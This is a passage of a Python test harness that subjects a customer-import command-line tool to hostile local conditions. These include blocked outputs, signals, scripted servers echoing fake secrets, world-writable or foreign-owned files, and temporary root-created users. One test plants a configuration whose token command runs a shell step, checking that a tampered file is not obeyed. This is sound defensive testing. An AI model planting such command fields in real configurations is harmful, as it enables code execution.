#!/usr/bin/env python3
"""Tries what a careless machine, server or neighbour does to an import.

    examples/hostile.py PROGRAM [GROUP...]

Prints each try and, at the end, how many there were and how many failed. The exit code is 0 only
if none failed. Every server is on this machine. Each group says what it needs and is skipped
elsewhere: Linux, root for the files of other users (two users are made and removed), strace for
random bytes and threads. Whatever happens, no user, process or file is left behind.
"""

import base64
import contextlib
import csv
import fcntl
import io
import json
import os
import pty
import pwd
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import termios
import threading
import time
import traceback
import unicodedata
import urllib.parse
from pathlib import Path

HEADER = "customer_name,customer_email,customer_phone,customer_country"
FAST = ["--rate", "5000/s", "--settle", "300ms"]
DEADLINE = 290  # seconds for everything
PATIENCE = 60  # seconds for one process
CREDENTIAL = "test-token-of-this-machine"


class Tally:
    """What was tried, and what failed."""

    tries = 0
    failures = []
    skipped = []


def attempt(name, holds, said=""):
    """Counts and prints one try."""
    Tally.tries += 1
    print(f"{'ok    ' if holds else 'FAILED'}  {name}", flush=True)
    if not holds:
        Tally.failures.append(name)
        for line in str(said).splitlines()[-12:]:
            print(f"          {line[:200]}", flush=True)


def skip(what, why):
    Tally.skipped.append(what)
    print(f"skip    {what}: {why}", flush=True)


class Failed(Exception):
    """What the script itself needs is not there."""


class Ended(Exception):
    """A signal or the deadline ends the script."""


# ---- processes and folders


class Place:
    """Everything that this script makes, so that it can be removed."""

    root = None
    program = None
    processes = []
    users = []


class Ran:
    """How a process ended. `code` is 128 + the signal if one killed it, None if it never ended."""

    def __init__(self, code, said, seconds, processor, memory):
        self.code, self.said, self.seconds = code, said, seconds
        self.processor, self.memory = processor, memory

    def __str__(self):
        return f"exit code {self.code} after {self.seconds:.1f} s\n{self.said}"

    @property
    def is_crashed(self):
        """A panic, or a signal that the program did not handle."""
        return (
            self.code in (None, 101, 132, 134, 135, 136, 137, 139, 153)
            or "panicked" in self.said
            or "a fault of this program" in self.said
        )


class Process:
    """A process in a session of its own, whose words go to a file."""

    def __init__(self, command, *, folder, env, user=None, output=None, **more):
        self.words = output or tempfile.TemporaryFile(dir=Place.root)
        more.setdefault("stdin", subprocess.DEVNULL)
        more.setdefault("stdout", self.words)
        more.setdefault("stderr", self.words)
        if user is not None:
            more |= {"user": user, "group": user, "extra_groups": []}
        self.begun, self.memory = time.monotonic(), 0
        self.child = subprocess.Popen(command, cwd=folder, env=env, start_new_session=True, **more)
        Place.processes.append(self.child)

    def signal(self, number):
        with contextlib.suppress(ProcessLookupError):
            os.kill(self.child.pid, number)

    def has_ended(self):
        """Whether it ended; its end is left for [`end`] to take."""
        with contextlib.suppress(OSError):
            return Path(f"/proc/{self.child.pid}/stat").read_text().rpartition(") ")[2][:1] == "Z"
        return True

    def peak(self):
        """The most memory up to now, in MiB."""
        with contextlib.suppress(OSError, TypeError):
            status = Path(f"/proc/{self.child.pid}/status").read_text()
            self.memory = max(self.memory, int(re.search(r"VmHWM:\s+(\d+)", status)[1]) // 1024)

    def end(self, patience=PATIENCE):
        """Waits for the end; kills the process if it takes longer than `patience`."""
        code, usage = None, None
        waiting = time.monotonic()
        while usage is None:
            self.peak()
            pid, status, used = os.wait4(self.child.pid, os.WNOHANG)
            if pid:
                code, usage = os.waitstatus_to_exitcode(status), used
                self.child.returncode = code
            elif time.monotonic() - waiting > patience:
                os.killpg(self.child.pid, signal.SIGKILL)
                _, _, usage = os.wait4(self.child.pid, 0)
                self.child.returncode = -signal.SIGKILL
            else:
                time.sleep(0.005)
        if code is not None and code < 0:
            code = 128 - code
        said = ""
        with contextlib.suppress(ValueError, OSError):
            self.words.seek(0)
            said = self.words.read().decode(errors="replace")
            self.words.close()
        return Ran(code, said, time.monotonic() - self.begun, usage.ru_utime + usage.ru_stime, self.memory)


# Sets a limit, undoes what Python does to signals, and becomes the program.
LIMITED = """
import os, resource, signal, sys
name, value = sys.argv[1].split("=")
user = int(sys.argv[2])
for number in (signal.SIGPIPE, signal.SIGXFSZ):
    signal.signal(number, signal.SIG_DFL)
resource.setrlimit(getattr(resource, name), (int(value), int(value)))
if user >= 0:
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
os.execv(sys.argv[3], sys.argv[3:])
"""


class Lab:
    """A folder of its own for each try."""

    def __init__(self, owner=None):
        self.folder = Path(tempfile.mkdtemp(dir=Place.root, prefix="lab-"))
        self.owner = owner
        if owner is not None:
            os.chown(self.folder, owner, owner)
            os.chmod(self.folder, 0o711)

    def __truediv__(self, name):
        return self.folder / name

    def env(self, **more):
        plain = {name: value for name, value in os.environ.items() if not name.startswith("CUSTOMER_IMPORT_")}
        for name in (
            "http_proxy",
            "https_proxy",
            "all_proxy",
            "HTTP_PROXY",
            "HTTPS_PROXY",
            "ALL_PROXY",
            "RUST_BACKTRACE",
        ):
            plain.pop(name, None)
        own = {"HOME": str(self.folder), "XDG_STATE_HOME": str(self / "state"), "CUSTOMER_IMPORT_TOKEN": CREDENTIAL}
        changed = plain | own | more
        return {name: value for name, value in changed.items() if value is not None}

    def write(self, name, text, mode=0o600, owner=None):
        path = self / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        owner = self.owner if owner is None else owner
        if owner is not None:
            os.chown(path, owner, owner)
        os.chmod(path, mode)
        return path

    def people(self, count):
        rows = (f"Person {n},p{n}@kunde.example.net,+49176123{n:05},DEU\n" for n in range(count))
        return self.write("in.csv", f"{HEADER}\n{''.join(rows)}")

    def rows(self, rows, header=HEADER):
        with io.StringIO(newline="") as text:
            writer = csv.writer(text, lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writerow(header.split(",") if isinstance(header, str) else header)
            writer.writerows(rows)
            self.write("in.csv", text.getvalue())

    def start(self, *args, limit=None, env=None, user=None, **more):
        words = [Place.program, *map(str, args)]
        user = self.owner if user is None else user
        if limit is not None:
            # Other users may not be able to run this Python.
            words = [sys.executable, "-c", LIMITED, limit, str(-1 if user is None else user), *words]
            user = None
        return Process(words, folder=self.folder, env=env or self.env(), user=user, **more)

    def run(self, *args, patience=PATIENCE, **more):
        return self.start(*args, **more).end(patience)

    def imports(self, server, *more):
        return ["import", "in.csv", "--base-url", server.url, *FAST, *more]

    def report(self, name="in.report.csv"):
        with open(self / name, newline="", encoding="utf-8-sig") as file:
            return list(csv.reader(file))


def peopled(count):
    lab = Lab()
    lab.people(count)
    return lab


class Sandbox:
    """The simulated API of the program in a process of its own; its log is an independent witness."""

    def __init__(self, lab, *options):
        self.log = Path(tempfile.mkdtemp(dir=Place.root, prefix="log-")) / "server.log"
        words = tempfile.TemporaryFile(dir=Place.root)
        command = ["sandbox", "--port", "0", "--limit", "1000000/m", "--log", self.log, *options]
        self.process = Process([Place.program, *map(str, command)], folder=lab.folder, env=lab.env(), output=words)
        self.url = None
        for _ in range(600):
            words.seek(0)
            if found := re.search(rb"http://\S+", words.read()):
                self.url = found[0].decode()
                return
            time.sleep(0.02)
        raise Failed("the simulated API does not start")

    def events(self):
        text = self.log.read_text() if self.log.exists() else ""
        return [json.loads(line) for line in text[: text.rfind("\n") + 1].splitlines()]

    def posts(self):
        return sum(event["event"] == "received" and event["method"] == "POST" for event in self.events())

    def created(self):
        return [event["email"] for event in self.events() if event["event"] == "created"]

    def has_no_doubles(self):
        created = self.created()
        return len(created) == len(set(created))

    def has(self, count):
        return self.has_no_doubles() and len(self.created()) == count

    def stop(self):
        self.process.signal(signal.SIGKILL)
        self.process.end()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()


def until(holds, patience=30):
    """Whether it came true in time."""
    begun = time.monotonic()
    while not holds():
        if time.monotonic() - begun > patience:
            return False
        time.sleep(0.005)
    return True


class Request:
    def __init__(self, method, target, headers, body):
        self.method, self.target, self.headers, self.raw = method, target, headers, body
        self.nth = 1
        try:
            self.body = json.loads(body) if body else {}
        except ValueError:
            self.body = {}
        query = urllib.parse.parse_qs(urllib.parse.urlsplit(target).query)
        self.email = self.body.get("customer_email") or query.get("email", [""])[0]

    @property
    def is_post(self):
        return self.method == "POST"


class World:
    """A scripted server: what `script` returns for a request goes back. Bytes are sent as they are;
    an iterator of bytes is sent until it or the client ends."""

    def __init__(self, script):
        self.script, self.requests, self.sent = script, [], 0
        self.guard = threading.Lock()
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/api/v1"
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    def serve(self, client):
        with client, contextlib.suppress(OSError, ValueError, IndexError):
            client.settimeout(30)
            file = client.makefile("rb")
            method, target, _ = file.readline().decode("latin-1").split(" ", 2)
            headers = {}
            while line := file.readline().decode("latin-1").strip():
                name, _, value = line.partition(":")
                headers[name.lower()] = value.strip()
            request = Request(method, target, headers, file.read(int(headers.get("content-length", 0))))
            with self.guard:
                self.requests.append(request)
                alike = [one for one in self.requests if one.method == method and one.email == request.email]
                request.nth = len(alike)
            answer = self.script(request)
            for piece in [answer] if isinstance(answer, bytes) else answer:
                client.sendall(piece)
                self.sent += len(piece)

    def posts(self):
        with self.guard:
            return [request for request in self.requests if request.is_post and request.email]

    def stop(self):
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()


def answer(status, body, headers=(), reason="Scripted"):
    text = body if isinstance(body, (bytes, str)) else json.dumps(body)
    text = text if isinstance(text, bytes) else text.encode()
    head = [f"HTTP/1.1 {status} {reason}", f"content-length: {len(text)}", "connection: close"]
    head += [f"{name}: {value}" for name, value in headers]
    if not any(name.lower() == "content-type" for name, _ in headers):
        head.append("content-type: application/json")
    return "\r\n".join([*head, "", ""]).encode() + text


def created(**data):
    return answer(200, {"status": "success", "status_code": 200, "data": data})


def refused(status, message, data=None):
    return answer(status, {"status": "failed", "status_code": status, "message": message, "data": data})


def listed(rows):
    pages = {"total": len(rows), "per_page": 100, "current_page": 1, "last_page": 1}
    return answer(200, {"status": "success", "status_code": 200, "data": rows, "pagination": pages})


# ---- unread terminals and pipes


def full_pipe():
    reader, writer = os.pipe()
    return fill(writer), [reader, writer]


def unread_terminal():
    master, slave = pty.openpty()
    return fill(slave), [master, slave]


def stopped_terminal():
    master, slave = pty.openpty()
    termios.tcflow(slave, termios.TCOOFF)
    return slave, [master, slave]


def fill(descriptor):
    """Writes until not one more byte is taken."""
    flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, flags | os.O_NONBLOCK)
    for piece in (b"." * 1024, b"."):
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(descriptor, piece)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, flags)
    return descriptor


UNREAD = {
    "a full pipe": full_pipe,
    "a terminal that is not read": unread_terminal,
    "a stopped terminal": stopped_terminal,
}
SIGNALS = {signal.SIGINT: 130, signal.SIGTERM: 143, signal.SIGHUP: 129}


@contextlib.contextmanager
def unread(make):
    descriptor, made = make()
    try:
        yield descriptor
    finally:
        for one in made:
            with contextlib.suppress(OSError):
                os.close(one)


def group_unread():
    """Output that is not read stops neither an import nor its signals."""
    for name, make in UNREAD.items():
        for more in (["-vv"], ["-vv", "--log-format", "json"], ["-vv", "--progress", "always"]):
            for streams in (["stderr"], ["stdout", "stderr"]):
                lab = peopled(150)
                with Sandbox(lab) as server, unread(make) as descriptor:
                    where = {stream: descriptor for stream in streams}
                    run = lab.start(*lab.imports(server, *more), **where)
                    reported = (lab / "in.report.csv").exists
                    finished = until(lambda: reported() or run.has_ended())
                    if streams == ["stderr"]:
                        ran = run.end(30)
                        attempt(f"{name} as stderr does not stop an import {' '.join(more)}", ran.code == 0, ran)
                    else:
                        # What stands on standard output is waited for, so only a signal ends it.
                        for _ in range(40):
                            if run.has_ended():
                                break
                            run.signal(signal.SIGTERM)
                            time.sleep(0.1)
                        ran = run.end(20)
                        ends = finished and ran.code in (0, 143)
                        attempt(f"{name} as both outputs does not stop an import {' '.join(more)}", ends, ran)
                    attempt("  and each customer is there once", server.has(150))
        for number, code in SIGNALS.items():
            lab = peopled(400)
            with Sandbox(lab, "--latency", "20ms") as server, unread(make) as descriptor:
                run = lab.start(
                    *lab.imports(server, "-vv", "--concurrency", "2"), stderr=descriptor, stdout=subprocess.DEVNULL
                )
                at_work = until(lambda: server.posts() >= 5)
                run.signal(number)
                ran = run.end(20)
                said = number.name
                attempt(f"{name} leaves {said} heard while it is sending", at_work and ran.code == code, ran)
                again = lab.run(*lab.imports(server, "--concurrency", "64"))
                attempt(
                    f"  and after {said} the next run completes without a double",
                    again.code == 0 and server.has(400),
                    again,
                )
        lab = peopled(20)
        with Sandbox(lab, "--latency", "60s") as server, unread(make) as descriptor:
            run = lab.start(*lab.imports(server, "-vv"), stderr=descriptor, stdout=descriptor)
            at_work = until(lambda: server.posts() >= 1)
            run.signal(signal.SIGTERM)
            time.sleep(0.5)
            run.signal(signal.SIGTERM)
            ran = run.end(15)
            attempt(
                f"{name} leaves the second signal heard, which ends the run at once", at_work and ran.code == 143, ran
            )
        lab = Lab()
        lab.rows([["A", "not an e-mail", "1", "XX"]] * 50)
        with unread(make) as descriptor:
            ran = lab.run("check", "in.csv", stderr=descriptor, stdout=subprocess.DEVNULL, patience=20)
            attempt(f"{name} does not stop a check", ran.code == 1, ran)
    lab = peopled(100)
    with Sandbox(lab, "--latency", "10ms") as server:
        master, slave = pty.openpty()
        run = lab.start(*lab.imports(server, "-vv", "--progress", "always"), stderr=slave, stdout=slave)
        os.close(slave)
        until(lambda: server.posts() >= 10)
        os.close(master)
        ran = run.end(30)
        attempt("a terminal that is gone does not stop an import", ran.code == 0 and server.has(100), ran)
    lab = peopled(20)
    with Sandbox(lab) as server:
        words = 'exec "$0" "$@" >&- 2>&- <&-'
        run = Process(["sh", "-c", words, Place.program, *lab.imports(server)], folder=lab.folder, env=lab.env())
        ran = run.end(30)
        attempt("closed outputs do not stop an import", ran.code == 0 and server.has(20), ran)


# ---- secrets that a server repeats

ACCOUNT = base64.b64encode(b"ops@example.org").decode()
SECRET = "s3cret/of-ops+1"
TOKEN = "t0ken-That-a-Login-brought"
LINK = "https://kyc.example.com/for/one-person"


def repeated(token=TOKEN):
    basic = base64.b64encode(f"{ACCOUNT}:{SECRET}".encode()).decode()
    encoded = base64.b64encode(SECRET.encode()).decode()
    return f"{token} {SECRET} {encoded} {basic} {ACCOUNT} see {LINK}"


def traces():
    """Parts of secrets: they show that one got out, whatever was cut off around it."""
    encoded = base64.b64encode(SECRET.encode()).decode()
    return [
        TOKEN,
        TOKEN[:14],
        TOKEN[8:22],
        SECRET,
        SECRET[:10],
        encoded,
        encoded[:14],
        ACCOUNT,
        "ops@example.org",
        CREDENTIAL[:16],
    ]


def leaks(lab, ran):
    """Where a part of a secret is: in the words of the program or in a file that it left."""
    places = {"the words": ran.said.encode()}
    for path in lab.folder.rglob("*"):
        if path.is_file() and path.name not in ("secret", "token", "c.toml"):
            places[path.name] = path.read_bytes()
    found = []
    for place, content in places.items():
        content = content.lower()
        found += [f"{trace} in {place}" for trace in traces() if trace.lower().encode() in content]
    if LINK in ran.said:
        found.append(f"{LINK} in the words")
    return found


def careless(request, words):
    """The answers, by kind. Each repeats everything."""
    spread = {
        "customer_id": "c-1",
        "kyc_link": LINK,
        "kyc_status": f"pending {words}",
        "created_at": words,
        "note": {words: [words]},
    }
    other = {"customer_id": "c-2", "customer_email": f"{TOKEN}@example.com"}
    html = [("content-type", "text/html")]
    page = f"<html><title>{words}</title><body><h1>{words}</h1><p>{words * 20}</p></body></html>"
    first = request.nth == 1
    return {
        "a receipt": lambda: created(**spread),
        "another e-mail": lambda: created(**other),
        "a field's complaint": lambda: refused(422, words, {"customer_name": [words]}),
        "a complaint of unknown fields": lambda: refused(422, "x", {words: [words]}),
        "a refusal": lambda: refused(400, words),
        "an error within": lambda: refused(400, "no", {"error": json.dumps({"app_secret": SECRET, "token": TOKEN})}),
        "a long refusal": lambda: refused(400, f"{'x' * 185}{words}"),
        "escaped letters": lambda: answer(
            400, '{"status":"failed","status_code":400,"message":"%s"}' % "".join(f"\\u{ord(c):04x}" for c in words)
        ),
        "a name in use": lambda: (
            refused(409, f"email already exists {words}")
            if request.is_post
            else listed([{**spread, "customer_email": request.email}])
        ),
        "the server's own fault": lambda: refused(500, words),
        "a busy key": lambda: refused(409, f"request in progress {words}"),
        "forbidden": lambda: refused(403, words),
        "missing": lambda: refused(404, words),
        "too large": lambda: refused(413, words),
        "too many requests": lambda: (
            answer(429, {"message": words}, [("retry-after", "0"), ("x-ratelimit-reset", words)])
            if first
            else created(customer_id="c-9")
        ),
        "a gateway's page": lambda: answer(502, page, html) if first else refused(400, words),
        "a page of success": lambda: answer(200, page, html),
        "a page that forbids": lambda: answer(403, page, html),
        "a reason in the status line": lambda: answer(400, {"message": words}, reason=words.replace("\n", " ")),
        "headers": lambda: answer(
            400,
            {"message": "no"},
            [
                ("x-request-id", words),
                ("set-cookie", words),
                ("retry-after", TOKEN),
                ("www-authenticate", f"Bearer {words}"),
            ],
        ),
        "a body that is cut": lambda: answer(500, {"message": words})[:-3],
        "a body without JSON": lambda: answer(500, words, [("content-type", "text/plain")]),
        "bad framing": lambda: f"HTTP/1.1 {words}\r\n{words}\r\n\r\n".encode(),
        "a redirect": lambda: answer(
            302, "", [("location", f"https://{TOKEN}.example.com/{SECRET}?{urllib.parse.quote(words)}")]
        ),
        "a redirect elsewhere": lambda: answer(308, "", [("location", f"/{urllib.parse.quote(words)}")]),
        "unauthorized": lambda: answer(401, {"message": words}, [("www-authenticate", words)]),
    }


KINDS = list(careless(Request("GET", "/", {}, b""), ""))


def group_secrets():
    """Secrets that a server repeats reach no file, terminal or log."""
    for number, kind in enumerate(KINDS):
        for style in ("text", "json") if number % 2 else ("json", "text"):
            lab = Lab()
            lab.rows([[f"Ada {n}", f"p{n}@kunde.example.net", f"+4917612345{n:03}", "DEU"] for n in range(2)])
            lab.write("secret", SECRET)

            def script(request, kind=kind):
                if "account_id" in request.body:
                    return created(access_token=TOKEN, expires_in=600)
                return careless(request, repeated())[kind]()

            with World(script) as world:
                more = [
                    "--ledger",
                    "l.db",
                    "--rejects",
                    "rejects.csv",
                    "--report",
                    "r.csv",
                    "--report",
                    "r.ndjson",
                    "-vv",
                    "--log-format",
                    style,
                ]
                more += [
                    "--timeout",
                    "5s",
                    "--max-attempts",
                    "2",
                    "--give-up-after",
                    "2s",
                    "--app-secret-file",
                    "secret",
                    "--concurrency",
                    "1",
                ]
                env = lab.env(CUSTOMER_IMPORT_TOKEN=None, CUSTOMER_IMPORT_ACCOUNT_ID=ACCOUNT)
                ran = lab.run(
                    "import",
                    "in.csv",
                    "--base-url",
                    world.url,
                    "--rate",
                    "5000/s",
                    "--settle",
                    "50ms",
                    *more,
                    env=env,
                    patience=30,
                )
                leaked = leaks(lab, ran)
                holds = not leaked and not ran.is_crashed and world.posts() and (lab / "l.db").exists()
                attempt(f"secrets repeated in {kind} are nowhere ({style})", holds, "\n".join([*leaked, str(ran)]))
    for kind in KINDS:
        lab = Lab()
        lab.rows([["Ada", "ada@kunde.example.net", "+49176123456", "DEU"]])
        words = repeated(TOKEN)
        with World(lambda request, kind=kind: careless(request, words)[kind]()) as world:
            env = lab.env(CUSTOMER_IMPORT_TOKEN=TOKEN)
            more = ["--ledger", "l.db", "-vv", "--timeout", "5s", "--max-attempts", "2", "--give-up-after", "2s"]
            ran = lab.run(
                "import",
                "in.csv",
                "--base-url",
                world.url,
                "--rate",
                "5000/s",
                "--settle",
                "50ms",
                *more,
                env=env,
                patience=30,
            )
            # The program does not know an app secret here, so only the token counts.
            leaked = [trace for trace in leaks(lab, ran) if trace.startswith(("t0ken", "That-a", TOKEN[8:22]))]
            attempt(
                f"a token repeated in {kind} is nowhere",
                not leaked and not ran.is_crashed and world.posts(),
                "\n".join([*leaked, str(ran)]),
            )
    for kind in ("a refusal", "unauthorized", "a gateway's page", "headers", "a body without JSON", "a redirect"):
        lab = Lab()
        lab.rows([["Ada", "ada@kunde.example.net", "+49176123456", "DEU"]])
        lab.write("secret", SECRET)
        # Nothing that a login could repeat is a token yet.
        words = repeated("").replace(TOKEN, "")
        with World(lambda request, kind=kind: careless(request, words)[kind]().replace(TOKEN.encode(), b"x")) as world:
            env = lab.env(CUSTOMER_IMPORT_TOKEN=None, CUSTOMER_IMPORT_ACCOUNT_ID=ACCOUNT)
            more = [
                "--app-secret-file",
                "secret",
                "-vv",
                "--ledger",
                "l.db",
                "--give-up-after",
                "1s",
                "--timeout",
                "3s",
            ]
            ran = lab.run(
                "import",
                "in.csv",
                "--base-url",
                world.url,
                "--rate",
                "5000/s",
                "--settle",
                "50ms",
                *more,
                env=env,
                patience=30,
            )
            leaked = leaks(lab, ran)
            holds = not leaked and not ran.is_crashed and ran.code != 0 and world.requests
            attempt(f"secrets repeated in {kind} after a login are nowhere", holds, "\n".join([*leaked, str(ran)]))
    lab = Lab()
    lab.write("secret", SECRET)
    row = {"customer_id": "c-1", "customer_email": "a@kunde.example.net", "kyc_status": repeated(), "note": repeated()}
    with World(
        lambda request: created(access_token=TOKEN, expires_in=600) if request.is_post else listed([row])
    ) as world:
        env = lab.env(CUSTOMER_IMPORT_TOKEN=None, CUSTOMER_IMPORT_ACCOUNT_ID=ACCOUNT)
        ran = lab.run(
            "ledger",
            "pull",
            "--base-url",
            world.url,
            "--ledger",
            "l.db",
            "--rate",
            "500/s",
            "--app-secret-file",
            "secret",
            env=env,
        )
        leaked = leaks(lab, ran)
        attempt(
            "secrets in the rows of a pull are nowhere", ran.code == 0 and not leaked, "\n".join([*leaked, str(ran)])
        )
    for url in (
        "https://user:SECRET@api.example.com/v1",
        "https://api.example.com/v1?token=SECRET",
        "user:SEC/RET@api.example.com",
        "https://api.example.com/v1#SECRET",
    ):
        for style in ("text", "json"):
            lab = peopled(1)
            ran = lab.run("import", "in.csv", "--base-url", url, "--log-format", style)
            attempt(
                f"a base URL like {url} is refused without its secret ({style})",
                ran.code == 2 and "RET" not in ran.said,
                ran,
            )


# ---- modes and owners


def mode(path):
    return path.lstat().st_mode & 0o7777


def imported(lab=None, count=2):
    """A lab with a ledger and its server."""
    lab = lab or Lab()
    lab.people(count)
    server = Sandbox(lab)
    ran = lab.run(*lab.imports(server, "--ledger", "l.db"))
    if ran.code != 0:
        server.stop()
        raise Failed(f"a plain import does not work:\n{ran}")
    return lab, server


def commands(lab, server):
    target = ["--base-url", server.url, "--ledger", "l.db"]
    for command in (["import", "in.csv"], ["check", "in.csv"], ["report", "in.csv"], ["ledger", "show"]):
        yield " ".join(command[:2]), lab.run(*command, *target)


SIDES = ["", "-wal", "-shm", "-journal", ".lock"]


def is_refused(ran, *words):
    return ran.code == 78 and "hint:" in ran.said and all(word in ran.said for word in words)


def group_modes():
    """Files that everybody may write or read are not believed, and what the program makes is its owner's alone."""
    for ending in SIDES:
        for wide in (0o602, 0o606, 0o666, 0o777):
            lab, server = imported()
            with server:
                path = lab / f"l.db{ending}"
                path.touch()
                path.chmod(wide)
                before = len(server.events())
                for command, ran in (
                    commands(lab, server)
                    if wide == 0o666
                    else [("import", lab.run(*lab.imports(server, "--ledger", "l.db")))]
                ):
                    holds = is_refused(ran, "can be written by every user", "chmod o-w")
                    attempt(
                        f"{command} refuses a ledger{ending} of mode {wide:o}",
                        holds and len(server.events()) == before,
                        ran,
                    )
    for narrowed in (0o640, 0o660, 0o644):
        lab, server = imported()
        with server:
            (lab / "l.db").chmod(narrowed)
            ran = lab.run(*lab.imports(server, "--ledger", "l.db"))
            attempt(f"a ledger of mode {narrowed:o} becomes 600", ran.code == 0 and mode(lab / "l.db") == 0o600, ran)
    for ending in SIDES[1:]:
        lab, server = imported()
        with server:
            path = lab / f"l.db{ending}"
            path.unlink(missing_ok=True)
            path.symlink_to(lab / "elsewhere")
            ran = lab.run(*lab.imports(server, "--ledger", "l.db"))
            attempt(
                f"a link in the place of l.db{ending} is refused",
                is_refused(ran, "is a link") and not (lab / "elsewhere").exists(),
                ran,
            )
            path.unlink()
            os.mkfifo(path, 0o600)
            ran = lab.run(*lab.imports(server, "--ledger", "l.db"), patience=10)
            attempt(f"a named pipe in the place of l.db{ending} is refused", is_refused(ran, "is a named pipe"), ran)
    for folder, holds in ((0o777, False), (0o1777, True), (0o700, True), (0o755, True)):
        lab, server = imported()
        with server:
            lab.folder.chmod(folder)
            for name in ("l.db", "new.db"):
                ran = lab.run(*lab.imports(server, "--ledger", name))
                good = (
                    ran.code == 0 if holds else is_refused(ran, "chmod o-w", "mkdir") and not (lab / "new.db").exists()
                )
                attempt(f"a folder of mode {folder:o} is {'fine' if holds else 'refused'} with {name}", good, ran)
    lab, server = imported()
    with server:
        (lab / "data").mkdir()
        ran = lab.run(*lab.imports(server, "--ledger", "data"))
        attempt(
            "a folder in the place of a ledger is called a folder",
            is_refused(ran, "is a folder", "data/customers.db"),
            ran,
        )
        (lab / "open").mkdir()
        (lab / "open").chmod(0o777)
        (lab / "link.db").symlink_to("open/l.db")
        ran = lab.run(*lab.imports(server, "--ledger", "link.db"))
        attempt(
            "a refused link to a new ledger leaves nothing behind",
            ran.code == 78 and not list((lab / "open").iterdir()),
            ran,
        )
        obeyed = lab / "obeyed"
        for wide, holds in ((0o666, False), (0o602, False), (0o644, True)):
            lab.write("c.toml", f'token-command = "touch {obeyed}; echo test-token"\n', wide)
            ran = lab.run(
                *lab.imports(server, "--ledger", "l.db", "--config", "c.toml"), env=lab.env(CUSTOMER_IMPORT_TOKEN=None)
            )
            good = ran.code == 0 and obeyed.exists() if holds else is_refused(ran, "chmod o-w") and not obeyed.exists()
            attempt(f"a configuration of mode {wide:o} is {'obeyed' if holds else 'not obeyed'}", good, ran)
        for name, option in (("token", "--token-file"), ("secret", "--app-secret-file")):
            for wide in (0o640, 0o604, 0o644, 0o666):
                lab.write(name, SECRET, wide)
                env = lab.env(
                    CUSTOMER_IMPORT_TOKEN=None, CUSTOMER_IMPORT_ACCOUNT_ID=ACCOUNT if name == "secret" else None
                )
                ran = lab.run(*lab.imports(server, "--ledger", "l.db", option, name), env=env)
                attempt(
                    f"a file for {option} of mode {wide:o} is refused",
                    ran.code in (77, 78) and "chmod" in ran.said and SECRET not in ran.said,
                    ran,
                )
    lab = peopled(60)
    with Sandbox(lab, "--latency", "50ms") as server:
        outputs = [
            "--report",
            "out.csv",
            "--report",
            "out.ndjson",
            "--rejects",
            "rejects.csv",
            "--metrics-file",
            "m.prom",
        ]
        words = 'umask 000; exec "$0" "$@"'
        with open(lab / "in.csv", "rb") as file:
            more = ["import", "-", "--base-url", server.url, *FAST, "--concurrency", "1", *outputs]
            run = Process(["sh", "-c", words, Place.program, *more], folder=lab.folder, env=lab.env(), stdin=file)
            until(lambda: server.posts() >= 3)
            made = {path: mode(path) for path in (lab / "state").rglob("*")}
            run.signal(signal.SIGTERM)
            ran = run.end(30)
        made |= {path: mode(path) for path in (lab / "state").rglob("*")}
        made |= {
            lab / name: mode(lab / name) for name in ("out.csv", "out.ndjson", "rejects.csv") if (lab / name).exists()
        }
        attempt(
            "with umask 000 a ledger, a spool and reports are made", len(made) >= 8 and (lab / "out.csv").exists(), ran
        )
        for path, found in sorted(made.items()):
            wanted = 0o700 if path.is_dir() else 0o600
            name = re.sub(r"[0-9a-f-]{20,}", "ID", str(path.relative_to(lab.folder)))
            attempt(f"with umask 000 {name} is {wanted:o}", found & 0o777 & ~wanted == 0, f"{found:o}")


@contextlib.contextmanager
def two_users():
    """Two users, who are gone afterwards."""
    try:
        for which in "ab":
            name = f"hostile-{which}-{os.getpid()}"
            Place.users.append(name)
            made = subprocess.run(
                ["useradd", "-r", "-M", "-N", "-s", "/bin/false", name], capture_output=True, text=True
            )
            if made.returncode != 0:
                raise Failed(f"no user can be made: {made.stderr.strip()}")
        yield tuple(pwd.getpwnam(name).pw_uid for name in Place.users)
    finally:
        remove_users()


def remove_users():
    for name in list(Place.users):
        for _ in range(5):
            subprocess.run(["userdel", name], capture_output=True, check=False)
            if not is_user(name):
                Place.users.remove(name)
                break
            time.sleep(0.2)


def is_user(name):
    with contextlib.suppress(KeyError):
        return bool(pwd.getpwnam(name))
    return False


def try_as(user, *command):
    """What another user gets done, or None."""
    done = subprocess.run(
        list(map(str, command)), user=user, group=user, extra_groups=[], capture_output=True, cwd="/", check=False
    )
    return done.stdout if done.returncode == 0 else None


def group_owners():
    """What other users own or do decides nothing."""
    if os.geteuid() != 0 or not shutil.which("useradd"):
        return skip("foreign owners", "this needs root and useradd")
    with two_users() as (mine, other):
        if try_as(mine, Place.program, "--version") is None:
            return skip("foreign owners", "other users cannot run the program where it lies")
        owners_of_ledgers(mine, other)
        owners_of_the_rest(mine, other)
        reach_of_others(mine, other)
        threads(mine)
    return None


def owners_of_ledgers(mine, other):
    for ending in SIDES:
        for owner in (other, 0):
            lab, server = imported(Lab(mine))
            with server:
                path = lab / f"l.db{ending}"
                path.touch()
                path.chmod(0o600)
                os.chown(path, owner, owner)
                before = len(server.events())
                for command, ran in (
                    commands(lab, server)
                    if owner == other
                    else [("import", lab.run(*lab.imports(server, "--ledger", "l.db")))]
                ):
                    holds = (
                        ran.code == 78
                        and f"belongs to user {owner}" in ran.said
                        or ran.code == 74
                        and "ermission denied" in ran.said
                    )
                    attempt(
                        f"{command} refuses l.db{ending} of {'root' if owner == 0 else 'another user'}",
                        holds and len(server.events()) == before,
                        ran,
                    )
    lab, server = imported(Lab(mine))
    with server:
        link = lab / "link.db"
        link.symlink_to("l.db")
        os.lchown(link, other, other)
